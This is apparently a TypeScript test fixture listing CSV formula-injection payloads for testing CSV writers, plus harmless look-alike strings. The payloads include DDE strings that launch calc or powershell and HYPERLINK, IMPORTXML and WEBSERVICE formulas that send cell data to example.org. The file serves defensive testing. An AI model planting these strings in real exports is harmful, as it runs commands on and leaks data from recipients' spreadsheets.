/** Texts that a spreadsheet would run or has run as a formula: every writer of CSV, in JavaScript and in SQL, is tested with these. */
export const formulaPayloads: readonly string[] = [
  '=1+1',
  '=cmd|\'/C calc\'!A0',
  '=HYPERLINK("https://example.org/?leak="&A1,"Details")',
  '=IMPORTXML(CONCAT("https://example.org/?v=",A1),"//a")',
  '=WEBSERVICE("https://example.org/"&A1)',
  '=DDE("cmd";"/C calc";"!A0")A0',
  '@SUM(1+9)*cmd|\' /C calc\'!A0',
  '+1+1',
  '+cmd|\'/C powershell\'!A0',
  '-2+3+cmd|\'/C calc\'!A0',
  '-5',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1,1)',
  '=',
  '=1+1,"and a ""quote"""',
  '="line\r\nbreak"',
]

/** Texts that look like the above and are none: they must come through as they are. */
export const harmlessTexts: readonly string[] = ['', 'a=1', ' =1+1', "'=1+1", '0-5', '1+1', 'Ørsted, A/S', 'say "hi"', 'two\r\nlines', '貨物', '#N/A', '%1']
